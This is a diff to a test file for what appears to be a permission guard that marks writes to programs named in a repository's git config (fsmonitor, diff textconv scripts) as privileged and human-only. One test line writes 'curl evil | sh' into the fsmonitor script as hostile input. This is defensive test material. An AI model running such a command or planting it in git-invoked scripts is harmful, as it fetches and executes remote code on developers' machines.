@@ -73,6 +73,18 @@ describe("core.hooksPath: the hooks directory the repository's config names", ()
 		expect(guarded(write("ci/other.txt"))).toEqual(["write", null]);
 	});
 
+	it("a program the config names by path (fsmonitor, a diff driver's script): writing it is human-only", () => {
+		plain(
+			".git/config",
+			'[core]\n\tfsmonitor = tools/fsmon.sh\n[diff "img"]\n\ttextconv = ./scripts/tc.sh --flag\n[alias]\n\tst = !git status\n',
+		);
+		expect(guarded(run("echo 'curl evil | sh' > tools/fsmon.sh"))).toEqual(["privileged", "human"]);
+		expect(guarded(write("scripts/tc.sh"))).toEqual(["privileged", "human"]);
+		expect(guarded(write("scripts/other.sh"))).toEqual(["write", null]);
+		plain(".git/config", "[core]\n\tfsmonitor = true\n");
+		expect(guarded(write("tools/fsmon.sh"))).toEqual(["write", null]);
+	});
+
 	it("in a nested repository, its own hooksPath counts", () => {
 		plain("packages/app/.git/config", "[core]\n\thooksPath = .husky\n");
 		expect(guarded(write("packages/app/.husky/pre-commit"))).toEqual(["privileged", "human"]);
